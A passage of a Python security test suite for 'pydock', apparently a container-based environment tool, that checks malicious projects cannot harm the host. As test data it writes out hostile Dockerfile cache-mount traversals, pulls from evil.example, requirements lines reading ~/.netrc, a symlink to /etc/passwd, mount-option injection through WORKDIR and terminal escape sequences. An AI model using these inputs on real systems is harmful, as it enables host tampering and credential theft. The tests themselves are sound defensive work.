                    str(out).lstrip("/"), touch), "split in the word": "RU\\\nN %s %s" % (cache, touch),
            "on build": "ONBUILD RUN %s %s" % (cache, touch), "a carriage return": "RUN \\\r\n  %s %s" % (cache, touch),
                    "a heredoc": "RUN %s <<E\n%s\nE" % (cache, touch), "quoted": 'RUN --mount="type=cache,id=%s%s,target=/h" %s' % (up, str(out).lstrip("/"),
                    touch),
            "a variable": "ARG M=type=cache,id=%s%s,target=/h\nRUN --mount=$M %s" % (up, str(out).lstrip("/"), touch),
                    "the template's with more": "RUN --mount=type=cache,id=pydock,target=/cache %s %s" % (cache, touch)}
        dockerfiles = {title: trap_in(TEMPLATE, trap, step) for title, step in steps.items()}
        dockerfiles["an escape character"] = "# escape=`\n" + trap_in(TEMPLATE.replace("\\\n", "`\n"), trap, "RUN `\n  %s %s" % (cache, touch))
        dockerfiles["an escape after a syntax line"] = "# syntax=x\n# escape=`\n" + trap_in(TEMPLATE.replace("\\\n", "`\n"), trap,
                "RUN `\n# x\n  %s %s" % (cache, touch))
        dockerfiles["instead of the template's"] = TEMPLATE.replace("id=pydock,target=/cache", "id=%s%s,target=/cache" % (up, str(out).lstrip("/")))
        for step in ("COPY --from=evil.example/%s /x /x" % BASE, "ADD https://evil.example/x.git /x"):
            dockerfiles[step] = trap_in(TEMPLATE, "", step)
        dockerfiles["an image with more in it"] = "FROM evil.example/%s AS base\nUSER 0:0\n" % BASE
        self.record()
        for number, (title, text) in enumerate(dockerfiles.items()):
            with self.subTest(title):
                folder = self.project("m%d" % number, dockerfile=text, requirements="# %d\n" % number)
                for argv in (["build", "dev"], ["run", "dev", "true"]):
                    result = self.fails(*argv, cwd=folder)
                    self.assertRegex(result.err, "hint: .*trust", result)
                self.assertEqual(self.recorded("build"), [])
                self.assertEqual(sorted(os.listdir(out)), [])
        self.ok("export", "dev", "x.tar", cwd=folder)
        for argv in (["lock", "dev"], ["update", "dev", "--python", "3.13"], ["create", "b", "--from", "x.tar"]):
            self.fails(*argv, cwd=folder, hint="pydock trust ")
        self.assertEqual(self.recorded("pull"), [], "an image that lies there is taken for others whose name ends so")

    def test_a_base_image_that_a_projects_settings_name(self) -> None:
        """The image brings the step, in ONBUILD, and the clone's pydock.conf the image."""
        out = self.base / "host on build"
        out.mkdir()
        cache = "--mount=type=cache,id=%s%s,target=/h" % ("../" * 12, str(out).lstrip("/"))
        name = "localhost/%s-evil/" % self.prefix
        engine("build", "--format", "docker", "-q", "-t", name + BASE, "-", input="FROM %s\nONBUILD RUN %s touch /h/PWNED\n" % (BASE, cache))
        self.addCleanup(engine, "rmi", "-f", name + BASE, check=False)
        default = TEMPLATE.replace("ARG REPOSITORY=\n", "ARG REPOSITORY=%s\n" % name)
        for number, (conf, text) in enumerate((("[pydock]\nrepository = %s\n" % name, TEMPLATE), ("", default),
                ("", TEMPLATE.replace("${REPOSITORY}", name)), ("[pydock]\nimage = %spython:{version}-slim\n" % name, default),
                                               ("", default + "FROM scratch AS last\nARG REPOSITORY=\n"), ("", "FROM ${X:-%s%s}\n" % (name, BASE)),
                                                       ("", "ARG X=%s%s\nFROM $X\n" % (name, BASE)))):
            with self.subTest(conf=conf, number=number):
                folder = self.project("conf%d" % number, dockerfile=text)
                (folder / ".pydock" / "pydock.conf").write_text(conf or "[pydock]\n", encoding="utf-8")
                self.run_pydock("build", "dev", cwd=folder)
                self.assertEqual(os.listdir(out), [])

    def test_a_base_image_is_the_one_that_is_meant(self) -> None:
        """podman takes any image whose name ends so for one that is not here."""
        name = "evil.example/%s/python:3.10-slim" % self.prefix
        engine("tag", BASE, name)
        self.addCleanup(engine, "rmi", name, check=False)
        self.record()
        self.fails("create", "meant", "3.10", says="podman takes evil.example/", hint="podman pull docker.io/library/python:3.10-slim")
        self.assertEqual(self.recorded("build") + self.recorded("run"), [])
        engine("tag", BASE, "localhost/%s/mine:1" % self.prefix)
        self.addCleanup(engine, "rmi", "localhost/%s/mine:1" % self.prefix, check=False)
        names = json.loads(engine("image", "inspect", "--format", "{{json .RepoTags}}", BASE))
        for good in ("%s/mine:1" % self.prefix, BASE, name):
            pydock.check_meant(pydock.Engine(ENGINE), good, names)

    def test_the_templates_own_builds_and_others_after_trust(self) -> None:
        steers = TEMPLATE + "LABEL io.containers.autoupdate=registry PODMAN_SYSTEMD_UNIT=x.service\n"
        self.assertEqual(self.ok("run", "dev", "echo", "on", cwd=self.project("plain", dockerfile=steers)), "on\n")
        folder = self.project("mine", dockerfile=TEMPLATE.replace("\nUSER $USER_UID", "\nRUN --mount=type=tmpfs,target=/t true\nUSER $USER_UID"))
        self.fails("build", "dev", cwd=folder, hint="trust")
        self.ok("trust", "-y", "dev", cwd=folder)
        self.ok("build", "dev", cwd=folder)
        text = folder / ".pydock" / "envs" / "dev" / "dockerfile"
        text.write_text(text.read_text(encoding="utf-8").replace("type=tmpfs", "type=cache"), encoding="utf-8")
        self.fails("build", "dev", cwd=folder, hint="trust")


def trap_in(dockerfile: str, stage: str, step: str) -> str:
    return dockerfile.replace("FROM base\nLABEL", stage + "\nFROM base\nLABEL").replace("\nUSER $USER_UID", "\n%s\nUSER $USER_UID" % step)


# ------------------------------------------------------------------------------------------------------------
# 4. Files of a project

READ_BY: Dict[str, Sequence[Sequence[str]]] = {  # what reads each file
    "pydock.conf": (["list"], ["config"], ["completion", "--words", "run", ""]), "dockerfile": (["run", "dev", "true"], ["export", "dev", "out.tar"], ["-n",
            "build", "dev"]),
    "requirements.txt": (["run", "dev", "true"], ["-n", "install", "dev", "six"], ["lock", "--check", "dev"]),
            "docker-compose.yml": (["run", "dev", "true"], ["trust", "-y", "dev"]), ".env": (["trust", "-y", "dev"],),
    "wheels/x-1.0-py3-none-any.whl": (["clone", "dev", "copy"], ["export", "dev", "out.tar"], ["build", "dev"])}


class Files(Attack):
    """No test of these needs an engine: it fails at every call, so that nothing goes further than to files."""

    def setUp(self) -> None:
        super().setUp()
        self.fake("fail", "image,build,buildx,run,create,version,info,ps,container,compose,cp,pull")
        self.addCleanup(self.no_fake)
        self.secret = self.base / ("secret of " + self._testMethodName)
        self.secret.write_text("machine x login y password %s\n%s\n" % (SECRET, SECRET), encoding="utf-8")
        self.secret.chmod(0o600)
        self.addCleanup(self.secret.unlink)

    def held(self) -> None:
        """The file that the attack is after is as it was."""
        self.assertEqual(self.secret.read_text(encoding="utf-8"), "machine x login y password %s\n%s\n" % (SECRET, SECRET))
        self.assertEqual(stat.S_IMODE(self.secret.stat().st_mode), 0o600)

    def inside(self, folder: Path) -> Path:
        return folder / ".pydock" / "envs" / "dev"

    def place(self, folder: Path, name: str) -> Path:
        path = {"pydock.conf": folder / ".pydock" / "pydock.conf"}.get(name, self.inside(folder) / name)
        path.parent.mkdir(exist_ok=True)
        if path.exists():
            path.unlink()
        return path

    def test_files_that_never_end_or_are_none(self) -> None:
        """/dev/zero takes all memory, a fifo hangs, also on TAB; and what else has no end, or no content."""
        def device(path: Path) -> None:
            try:
                os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))
            except PermissionError:
                self.skipTest("no device can be made here")

        def sparse(path: Path) -> None:
            with open(path, "wb") as file:
                file.truncate(1 << 40)

        def listening(path: Path) -> None:
            old = os.getcwd()
            os.chdir(path.parent)
            try:
                with socket.socket(socket.AF_UNIX) as server:
                    server.bind(path.name)
            finally:
                os.chdir(old)

        kinds: Dict[str, Callable[[Path], object]] = {
            "zero": lambda path: path.symlink_to("/dev/zero"), "fifo": os.mkfifo, "device": device, "sparse": sparse, "socket": listening,
                    "folder": lambda path: path.mkdir(), "itself": lambda path: path.symlink_to(path.name),
            "terminal": lambda path: path.symlink_to("/dev/tty"), "standard input": lambda path: path.symlink_to("/proc/self/fd/0")}
        for number, (kind, make) in enumerate(kinds.items()):
            for name in READ_BY:
                folder = self.project("end%d-%s" % (number, name.replace("/", "-")), {"docker-compose.yml": services()} if name == ".env" else {},
                                      requirements="./wheels/x-1.0-py3-none-any.whl\n" if "whl" in name else "")
                make(self.place(folder, name))
                for argv in READ_BY[name]:
                    with self.subTest(kind=kind, name=name, argv=argv):
                        self.guarded(*argv, cwd=folder)

    def test_texts_that_take_for_ever_to_read(self) -> None:
        """In which a pattern would look for its end from each place on, or a text would be copied for each of its lines."""
        many = 1 << 18
        texts = {"requirements.txt": ["x # a%sb\n" % (" " * many), "\\\n" * many, "-e x#%s\n" % ("&egg=" * many), "\n" * many + "#", "x --hash=%s\n" % ("a" * many)],
                "dockerfile": ["FROM python:%s\n" % ("1." * many), "FROM %s\n" % ("--a " * many)]}
        for name, several in texts.items():
            for number, text in enumerate(several):
                folder = self.project("slow %s %d" % (name, number))
                self.place(folder, name).write_text(text, encoding="utf-8")
                for argv in (["lock", "--check", "dev"], ["-n", "build", "dev"]):
                    with self.subTest(text=text[:20], argv=argv):
                        self.assertLess(len(self.guarded(*argv, cwd=folder).err), 10000)
        folder = self.project("slow conf")
        (folder / ".pydock" / "pydock.conf").write_text("[pydock]\na%sb\n" % (" " * many), encoding="utf-8")
        self.guarded("list", cwd=folder)

    def test_a_project_does_not_choose_what_gets_the_logins(self) -> None:
        """A dockerfile that the user made or allowed starts from the image that the user's own settings name: at each pull of the project's."""
        self.ok("--local", "create", "mine", PYTHON, "--no-build")
        conf = self.work / ".pydock" / "pydock.conf"
        self.addCleanup(shutil.rmtree, self.work / ".pydock")
        conf.write_text("[pydock]\nrepository = evil.example/\nimage = evil.example/python:{version}\n", encoding="utf-8")
        for argv in (["-n", "build", "mine"], ["-n", "create", "another"]):
            result = self.run_pydock(*argv)
            self.assertIn("ignoring repository in", result.err, result)
            self.assertNotIn("evil", result.out, result)
        for key in ("repository", "image", "engine"):
            self.fails("--local", "config", key, "evil.example", hint="pydock config --global %s evil.example" % key)

    def test_links_to_a_secret(self) -> None:
        for number, name in enumerate(("pydock.conf", "dockerfile", "requirements.txt", "docker-compose.yml", ".env", "requirements.txt.orig",
                "wheels/x-1.0-py3-none-any.whl", ".requirements.txt.0123abcd.new", ".dockerfile.0123abcd.new")):
            folder = self.project("secret%d" % number, requirements="./wheels/x-1.0-py3-none-any.whl\n" if "whl" in name else "")
            target = self.secret if number % 2 else Path(os.path.relpath(self.secret, self.place(folder, name).parent))
            self.place(folder, name).symlink_to(target)
            for argv in (*READ_BY.get(name, ()), ["freeze", "dev"], ["unfreeze", "dev"], ["--local", "config", "history", "5"], ["install", "dev", "six"],
                    ["delete", "-y", "dev"]):
                with self.subTest(name=name, argv=argv):
                    self.guarded(*argv, cwd=folder)
                    self.held()
            if (folder / "out.tar").exists():
                self.assertNotIn(SECRET.encode(), (folder / "out.tar").read_bytes())

    def test_the_content_of_a_broken_file_is_not_repeated(self) -> None:
        for number, text in enumerate((SECRET, "[pydock]\n%s\n" % SECRET, "[%s\n" % SECRET, "[pydock]\n%s = %s\n" % (SECRET, SECRET),
                "[pydock]\npython\n  %s" % SECRET, "[pydock]\npython=3\npython=%s" % SECRET, "[%s]\n[%s]\n" % (SECRET, SECRET))):
            folder = self.project("broken%d" % number)
            (folder / ".pydock" / "pydock.conf").write_text(text, encoding="utf-8")
            for argv in (["list"], ["config"], ["run", "dev", "true"], ["completion", "--words", "run", ""]):
                with self.subTest(text=text, argv=argv):
                    result = self.run_pydock(*argv, cwd=folder)
                    if number not in (3,):  # a setting of an unknown name is named
                        self.assertNotIn(SECRET, result.out + result.err)

    def test_links_at_every_level(self) -> None:
        target = self.base / "target"
        self.away(target)
        self.project("elsewhere")
        shutil.move(str(self.work / "elsewhere"), str(target))
        real = {"pydock": target / ".pydock", "envs": target / ".pydock" / "envs", "dev": target / ".pydock" / "envs" / "dev",
                "wheels": target / ".pydock" / "envs" / "dev" / "wheels"}
        real["wheels"].mkdir()
        (real["wheels"] / "x-1.0-py3-none-any.whl").write_text("x", encoding="utf-8")
        before = sorted(map(str, target.rglob("*")))
        for level, to in real.items():
            folder = self.project("level-" + level, requirements="./wheels/x-1.0-py3-none-any.whl\n")
            path = {"pydock": folder / ".pydock", "envs": folder / ".pydock" / "envs", "dev": self.inside(folder),
                    "wheels": self.inside(folder) / "wheels"}[level]
            shutil.rmtree(path, ignore_errors=True)
            path.symlink_to(to)
            for argv in (["list"], ["run", "dev", "true"], ["export", "dev", "out.tar"], ["clone", "dev", "copy"], ["freeze", "dev"],
                    ["--local", "create", "new", "--no-build"], ["install", "dev", "six"],
                         ["--local", "delete", "-y", "dev"], ["--local", "config", "python", "3.11"], ["prune", "-y"]):
                with self.subTest(level=level, argv=argv):
                    self.guarded(*argv, cwd=folder)
                    self.assertEqual(sorted(map(str, target.rglob("*"))), before)
                    self.assertEqual(stat.S_IMODE((real["dev"] / "requirements.txt").stat().st_mode) & 0o200, 0o200)

    def test_delete_removes_no_global_environment(self) -> None:
        """The attack that was done: `.pydock/envs -> ../../.pydock/envs`, in a clone below the home."""
        self.no_fake()
        self.ok("--global", "create", "precious", "--no-build")
        clone = self.home / "clone"
        self.away(clone)
        (clone / ".pydock").mkdir(parents=True)
        for target in ("../../.pydock/envs", str(self.home / ".pydock" / "envs")):
            (clone / ".pydock" / "envs").symlink_to(target)
            for argv in (["delete", "-y", "precious"], ["--local", "delete", "-y", "precious"], ["--local", "freeze", "precious"],
                    ["--local", "clone", "precious", "copy"], ["list"]):
                self.guarded(*argv, cwd=clone)
                self.assertTrue((self.folder("precious") / "dockerfile").exists(), argv)
                self.assertTrue(os.access(self.folder("precious") / "dockerfile", os.W_OK))
            (clone / ".pydock" / "envs").unlink()
        (clone / ".pydock" / "envs").mkdir()
        (clone / ".pydock" / "envs" / "precious").symlink_to(self.folder("precious"))
        self.guarded("--local", "delete", "-y", "precious", cwd=clone)
        self.assertTrue((self.folder("precious") / "dockerfile").exists())

    def test_a_requirement_that_leads_out(self) -> None:
        """The attack that was done: `install` deleted a file of the host that the requirement of a clone named."""
        dist = self.base / "dist-out"
        self.away(dist)
        wheel = make_wheel(dist, "demo")
        there = os.path.relpath(wheel, self.inside(self.work / "leads0") / "wheels")
        for number, line in enumerate(("./wheels/" + there, "./wheels/%s" % wheel, "./wheels/x/../" + there, "./wheels/" + there.replace("/", "%2f"),
                "./wheels/./" + there)):
            folder = self.project("leads%d" % number, requirements=line + "\n")
            (self.inside(folder) / "wheels").mkdir()
            self.no_fake()
            with self.subTest(line):
                text = (self.inside(folder) / "requirements.txt").read_text(encoding="utf-8")
                before = dict(os.environ)
                try:
                    os.environ.update(self.environ)
                    place = pydock.Scope("local", str(folder / ".pydock"), "")
                    env = pydock.Env(place, "dev", self.prefix)
                    try:
                        pydock.keep_files(env, "six==1.0\n", [])
                    except pydock.PydockError:
                        pass
                finally:
                    os.environ.clear()
                    os.environ.update(before)
                self.assertTrue(wheel.exists(), text)

    def test_what_belongs_to_somebody_else(self) -> None:
        if os.geteuid():
            self.skipTest("only root can give files away")
        for number, what in enumerate((".pydock/envs/dev/requirements.txt", ".pydock/envs/dev/dockerfile", ".pydock/envs/dev/docker-compose.yml",
                ".pydock/pydock.conf", ".pydock/envs/dev", ".pydock/envs")):
            with self.subTest(what):
                folder = self.project("theirs%d" % number, {"docker-compose.yml": services()} if "compose" in what else {})
                path = folder / what
                if not path.exists():
                    path.write_text("[pydock]\npython = 3.13\n", encoding="utf-8")
                os.chown(path, OTHER, OTHER)
                result = self.guarded("run", "dev", "true", cwd=folder)
                self.assertEqual(result.status, 1, result)
                self.assertIn(path.name, result.err, result)
                if path.is_file():
                    self.assertIn("another user", result.err, result)

    def test_a_hard_link_to_a_file_of_somebody_else(self) -> None:
        if os.geteuid():
            self.skipTest("only root can give files away")
        victim = self.base / "linked hard"
        victim.write_text("machine x password %s\n" % SECRET, encoding="utf-8")
        os.chown(victim, OTHER, OTHER)
        self.addCleanup(victim.unlink)
        for number, name in enumerate(("pydock.conf", "requirements.txt", "dockerfile")):
            folder = self.project("hard%d" % number)
            os.link(victim, self.place(folder, name))
            for argv in (["list"], ["run", "dev", "true"], ["freeze", "dev"], ["export", "dev", "out.tar"], ["lock", "--check", "dev"]):
                with self.subTest(name=name, argv=argv):
                    self.guarded(*argv, cwd=folder)
                    self.assertEqual(stat.S_IMODE(victim.stat().st_mode) & 0o200, 0o200)
                    self.assertEqual(victim.stat().st_uid, OTHER)

    def test_a_pydock_that_is_a_link_of_a_shared_folder(self) -> None:
        """/shared/.pydock, which somebody has made a link into a folder of the victim's own."""
        shared = self.base / "shared"
        self.away(shared)
        shared.mkdir()
        shared.chmod(0o1777)
        mine = self.project("victims")
        (shared / ".pydock").symlink_to(mine / ".pydock")
        (shared / "below").mkdir()
        self.ok("--global", "create", "e", "--no-build")
        for cwd in (shared, shared / "below"):
            with self.subTest(cwd):
                self.assertRegex(json.loads(self.run_pydock("config", "--json", cwd=cwd).out).get("mode"), "^global")
                result = self.guarded("delete", "-y", "dev", cwd=cwd)
                self.assertNotEqual(result.status, 0)
                self.assertTrue(self.inside(mine).exists())

    def test_a_pydock_above_that_everybody_may_write(self) -> None:
        shared = self.base / "open"
        self.away(shared)
        (shared / "a" / "b").mkdir(parents=True)
        shutil.copytree(self.project("source") / ".pydock", shared / ".pydock")
        names = lambda cwd: [row["name"] for row in json.loads(self.listing(cwd))]  # noqa: E731
        shared.chmod(0o755)
        self.assertIn("dev", self.run_pydock("completion", "--words", "run", "", cwd=shared / "a" / "b").out.split())
        for mode in (0o777, 0o1777, 0o757):
            shared.chmod(mode)
            with self.subTest(oct(mode)):
                self.assertNotIn("dev", self.run_pydock("completion", "--words", "run", "", cwd=shared / "a" / "b").out.split())
                self.assertIn("dev", self.run_pydock("completion", "--words", "run", "", cwd=shared).out.split())  # in it, and one's own
        del names

    def listing(self, cwd: Path) -> str:
        return self.run_pydock("list", "--json", cwd=cwd).out or "[]"

    def test_requirements_that_name_files_of_the_host(self) -> None:
        private = self.base / "private"
        self.away(private)
        make_wheel(private, "stolen")
        (private / "setup.py").write_text(SECRET, encoding="utf-8")
        folder = self.project("names files")
        up = os.path.relpath(private, folder)
        for line in ("-r %s" % self.secret, "-r ../../%s" % self.secret.name, "--requirement=%s" % self.secret, "-c %s" % self.secret,
                "%s/stolen-1.0-py3-none-any.whl" % private, "%s/stolen-1.0-py3-none-any.whl" % up,
                     "file://%s" % private, "stolen @ file://%s/stolen-1.0-py3-none-any.whl" % private, "-e %s" % private, "%s" % private, "-r sub/more.txt",
                             "~/.netrc", "-r /root/.netrc", "-r /dev/zero", "-r fifo"):
            (folder / "sub").mkdir(exist_ok=True)
            (folder / "sub" / "more.txt").write_text("-r %s\n" % self.secret, encoding="utf-8")
            if not (folder / "fifo").exists():
                os.mkfifo(folder / "fifo")
            (folder / "requirements.txt").write_text(line + "\n", encoding="utf-8")
            for argv in (["-n", "install", "dev", "-r", "requirements.txt"], ["install", "dev", "-r", "requirements.txt"]):
                with self.subTest(line=line, argv=argv):
                    result = self.guarded(*argv, cwd=folder)
                    self.assertNotEqual(result.status, 0, result)
                    self.assertNotIn(str(private) + ":", result.out)
        (folder / "requirements.txt").write_text("-r sub/good.txt\n", encoding="utf-8")
        (folder / "sub" / "good.txt").write_text("six\n", encoding="utf-8")
        self.no_fake()
        self.assertIn("six", self.ok("-n", "install", "dev", "-r", "requirements.txt", cwd=folder))

    def test_other_files_that_lie_about(self) -> None:
        folder = self.project("about")
        (folder / ".python-version").symlink_to("/dev/zero")
        self.guarded("create", "n", "--no-build", cwd=folder)
        (folder / ".python-version").unlink()
        os.mkfifo(folder / ".python-version")
        self.guarded("create", "m", "--no-build", cwd=folder)
        (folder / ".python-version").unlink()
        (folder / ".python-version").symlink_to(self.secret)
        self.guarded("create", "o", "--no-build", cwd=folder)
        for name in ("pyproject.toml", "pylock.toml", "requirements.txt"):
            (folder / name).symlink_to(self.secret)
            self.guarded("install", "dev", "-r", name, cwd=folder)
        self.held()


class Mounted(Attack):
    """What runs inside sees the user's folder; what steers pydock in there is read-only."""

    @classmethod
    def prepare(cls, case: Case) -> None:
        case.ok("create", "e")

    def refused_inside(self, script: str, *, cwd: Path, name: str = "e") -> None:
        result = self.run_pydock("run", name, "/bin/sh", "-c", "(%s); exit 0" % script, cwd=cwd)
        self.assertEqual(result.status, 0, result)

    def test_the_home(self) -> None:
        data = self.home / ".local" / "share" / "pydock"
        (data / "trust").mkdir(parents=True, exist_ok=True)
        before = (self.folder("e") / "dockerfile").read_text(encoding="utf-8")
        for started in (False, True):
            if started:
                self.ok("start", "e", cwd=self.home)
                self.addCleanup(self.run_pydock, "stop", "--force", "e", cwd=self.home)
            for script in (
                    "echo x >>.pydock/envs/e/dockerfile", "echo '[pydock]' >.pydock/pydock.conf",
                            "mkdir -p .pydock/envs/evil; touch .pydock/envs/evil/dockerfile", "touch .local/share/pydock/evil",
                            "touch .local/share/pydock/trust/evil", "mkdir -p .cache/pydock/bytecode; touch .cache/pydock/evil .cache/pydock/bytecode/evil",
                            "mv .cache aside3; mkdir -p .cache/pydock/bytecode; touch .cache/pydock/bytecode/evil",
                    "rm -rf .pydock", "mv .pydock aside; mkdir .pydock; touch .pydock/evil",
                            "mv .local/share aside1; mkdir -p .local/share/pydock/trust; touch .local/share/pydock/evil",
                            "mv .local aside2; mkdir -p .local/share/pydock; touch .local/share/pydock/evil",
                    "touch %s/.pydock/evil" % self.home, "ln -s /tmp .pydock/link", "chmod 777 .pydock/envs/e/dockerfile"):
                with self.subTest(script=script, started=started):
                    self.refused_inside(script, cwd=self.home)
                    self.assertEqual((self.folder("e") / "dockerfile").read_text(encoding="utf-8"), before)
                    self.assertEqual([str(path) for folder in (self.home / ".pydock", self.home / ".cache" / "pydock", data)
                                      for path in folder.rglob("evil")], [], script)
                    self.assertFalse((self.home / ".pydock" / "pydock.conf").exists())
                    self.assertTrue((data / "trust").is_dir())
        self.refused_inside("echo honest >file; mkdir -p .local/share/other && touch .local/share/other/x", cwd=self.home)
        self.assertEqual((self.home / "file").read_text(encoding="utf-8"), "honest\n")
        self.assertTrue((self.home / ".local" / "share" / "other" / "x").exists())

    def test_where_the_data_folder_was_not_there_yet(self) -> None:
        other = self.base / "fresh home"
        other.mkdir()
        self.ok("create", "f", environ={"HOME": str(other), "PYDOCK_PREFIX": self.prefix + "f"})
        self.ok("run", "f", "/bin/sh", "-c", "mkdir -p .local/share/pydock/trust && touch .local/share/pydock/trust/evil; mkdir -p .cache/pydock/bytecode && touch .cache/pydock/bytecode/evil; true", cwd=other,
                environ={"HOME": str(other), "PYDOCK_PREFIX": self.prefix + "f"})
        self.assertEqual(list(other.rglob("evil")), [])

    def test_a_folder_above_the_data_folder(self) -> None:
        """Where another folder is mounted that holds pydock's data folder, or is it."""
        data = self.home / ".local" / "share" / "pydock"
        data.mkdir(parents=True, exist_ok=True)
        for cwd in (self.home / ".local", self.home / ".local" / "share", data, self.home / ".pydock", self.folder("e")):
            with self.subTest(cwd):
                self.run_pydock("--global", "run", "e", "/bin/sh", "-c", "touch evil share/pydock/evil pydock/evil envs/e/evil; true", cwd=cwd)
                self.assertEqual([path for folder in (self.home / ".pydock", data) for path in folder.rglob("evil")], [])

    def test_a_working_folder_that_reads_as_options_of_a_mount(self) -> None:
        """What a dockerfile names as its WORKDIR becomes the place of volumes: a comma in it would begin another mount."""
        stolen = self.base / "stolen"
        stolen.mkdir()
        (stolen / "secret").write_text(SECRET, encoding="utf-8")
        folder = self.project("place")
        (folder / ".pydock" / "pydock.conf").write_text("[pydock]\ncache = volume\n", encoding="utf-8")
        self.ok("run", "dev", "true", cwd=folder)  # the volume is there when a pull brings the rest
        for volume in engine("volume", "ls", "-q", "--filter", "label=pydock.folder").split():
            if volume.startswith(self.prefix + "-dev"):
                self.addCleanup(engine, "volume", "rm", "-f", volume, check=False)
        for place in ("/x,type=bind,source=%s,target=/y" % stolen, "/x:exec,size=1g", '/x",source=%s' % stolen):
            text = TEMPLATE.replace("WORKDIR /home/$USERNAME", "WORKDIR " + place)
            self.assertNotEqual(text, TEMPLATE)
            (folder / ".pydock" / "envs" / "dev" / "dockerfile").write_text(text, encoding="utf-8")
            self.run_pydock("build", "dev", cwd=folder)
            for options in ([], ["--sandbox"]):
                with self.subTest(place=place, options=options):
                    self.safe(self.run_pydock("run", *options, "dev", "find", "/x", "/y", "/home", "-name", "secret", "-exec", "cat", "{}", ";", cwd=folder))

    def test_the_project(self) -> None:
        folder = self.project("mounted")
        before = sorted(map(str, (folder / ".pydock").rglob("*")))
        for script in ("touch .pydock/evil", "echo x >>.pydock/envs/dev/dockerfile", "echo '-e /' >>.pydock/envs/dev/requirements.txt",
                "touch .pydock/envs/dev/docker-compose.yml", "mv .pydock aside; mkdir .pydock; touch .pydock/evil", "rm -rf .pydock",
                       "touch %s/.pydock/evil" % folder, "ln -sf /etc/passwd .pydock/envs/dev/requirements.txt"):
            with self.subTest(script):
                self.refused_inside(script, cwd=folder, name="dev")
                self.assertEqual(sorted(map(str, (folder / ".pydock").rglob("*"))), before)
                self.assertEqual((folder / ".pydock" / "envs" / "dev" / "dockerfile").read_text(encoding="utf-8"), TEMPLATE)
        self.refused_inside("echo honest >file", cwd=folder, name="dev")
        self.assertEqual((folder / "file").read_text(encoding="utf-8"), "honest\n")
        self.ok("install", "dev", str(make_wheel(self.base / "dist", "plain")), cwd=folder)
        self.assertEqual(self.ok("run", "dev", "python", "-c", "import plain; print(plain.version)", cwd=folder), "1.0\n")


# ------------------------------------------------------------------------------------------------------------
# 5. The rest

STEERS = "\x1b[31mred\x1b]0;title\x07\u202egnp.\u2066\x9b1m"
HIDDEN = ("\x1b", "\x07", "\u202e", "\u2066", "\x9b")


class Terminals(Attack):
    """Nothing of others steers a terminal; what is for programs stays exact."""

    @classmethod
    def prepare(cls, case: Case) -> None:
        case.ok("create", "e")

    def quiet(self, *argv: str, **options: Any) -> Result:
        result = self.run_pydock(*argv, **options)
        self.assertEqual([char for char in HIDDEN if char in result.out + result.err], [], result)
        self.assertNotIn("bug in pydock", result.err)
        return result

    def test_labels(self) -> None:
        quoted = pydock.quote(STEERS)
        for number, value in enumerate((STEERS, quoted)):
            tag = "%s-l%d:latest" % (self.prefix, number)
            names = ("command", "python", "packages", "name", "folder", "time", "dockerfile")
            labels = {"pydock." + key: value for key in names}
            labels["pydock.folder"] = pydock.quote("/nowhere/" + STEERS)
            labels["pydock.name"] = "l1" if number else value
            engine("build", "-q", "-t", tag, *[word for key, text in labels.items() for word in ("--label", "%s=%s" % (key, text))], "-",
                    input="FROM %s\n" % BASE)
            self.ok("create", "l%d" % number, "--no-build")
            if number:
                folders = [row["path"] for row in json.loads(self.run_pydock("list", "--all", "--json").out)]
                self.assertIn("/nowhere/" + STEERS, folders)
            for argv in (["list"], ["list", "--all"], ["prune"], ["config"], ["history", "l%d" % number], ["run", "l%d" % number, "true"],
                    ["lock", "--check", "l%d" % number], ["create", "n", "--from", tag], ["stop", "l%d" % number]):
                with self.subTest(argv=argv, value=value):
                    self.quiet(*argv)
            self.quiet("prune", "-y")

    def test_labels_of_the_environments_own_image(self) -> None:
        text = "FROM %s-e:latest\n" % self.prefix
        engine("build", "-q", "-t", self.prefix + "-e:latest", "-t", self.prefix + "-e:2", "-t", self.prefix + "-e:007", "--label",
                "pydock.command=" + STEERS, "--label", "pydock.python=" + STEERS,
               "--label", "pydock.packages=six==" + STEERS, "--label", "pydock.time=" + STEERS, "-", input=text)
        for argv in (["list"], ["list", "--all"], ["history", "e"], ["export", "e", "x.tar"], ["rollback", "e", "2"], ["install", "e", "./nothing"],
                ["snapshot", "e", "\x1b[31m"], ["clone", "e", "copy"], ["prune"], ["digest", "e"]):
            with self.subTest(argv):
                self.quiet(*argv)
        self.assertEqual(json.loads(self.run_pydock("history", "--json", "e").out or "[{}]") is not None, True)

    def test_files(self) -> None:
        folder = self.project("named \x1b[31m", {STEERS.replace("/", ""): "x", "docker-compose.yml": "services: {app: {x: \"%s\"}}\n" % STEERS},
                requirements="%s\n-r %s\n" % (STEERS, STEERS))
        (folder / ".pydock" / "pydock.conf").write_text("[pydock]\nimage = x%s\n" % STEERS, encoding="utf-8")
        for argv in (["list"], ["config"], ["run", "dev", "true"], ["trust", "dev"], ["lock", "--check", "dev"], ["export", "dev", "x.tar"],
                ["build", "dev"], ["install", "dev", "-r", STEERS], ["create", STEERS], ["delete", "-y", STEERS], [STEERS], ["list", STEERS]):
            with self.subTest(argv):
                self.quiet(*argv, cwd=folder)
        (folder / ".pydock" / "pydock.conf").unlink()
        for argv in (["list"], ["config"], ["run", "dev", "true"], ["trust", "-y", "dev"], ["lock", "--check", "dev"], ["export", "dev", "y.tar"],
                ["build", "dev"]):
            with self.subTest(argv):
                self.quiet(*argv, cwd=folder)

    def test_what_a_build_and_an_installer_say(self) -> None:
        folder = self.project("says", dockerfile="FROM %s\nRUN printf '\\033[31m\\033]0;x\\007'; exit 1\n# \033]0;x\007\n" % BASE)
        self.quiet("build", "dev", cwd=folder)
        for argv in (["build", "dev"], ["-n", "build", "dev"]):  # also where the client draws on the terminal itself
            shown = self.terminal(*argv, cwd=folder).out
            self.assertIn("\\x1b]0;x", shown)
            self.assertNotIn("\x1b]", shown)

    def test_what_a_client_draws(self) -> None:
        drawn = "\x1b[?25l\x1b[1A\x1b[0G\x1b[34m#1\x1b[0m\r\n\x1b[2K"
        self.assertEqual(pydock.visible_picture(drawn), drawn)
        for steers in ("\x1b]52;c;eA==\x07", "\x1b[6n", "\x1b[21t", "\x1b[?1049h", "\x1bP+q\x1b\\\\", "\x9b6n", "\x1bc"):
            self.assertNotRegex(pydock.visible_picture(drawn + steers)[len(drawn):], "[\x1b\x9b\x07]")


class Strangers(Attack):
    """What makes no sense is one line; and the small holes."""

    @classmethod
    def prepare(cls, case: Case) -> None:
        case.ok("create", "e")

    def test_a_tag_and_a_time_that_are_none(self) -> None:
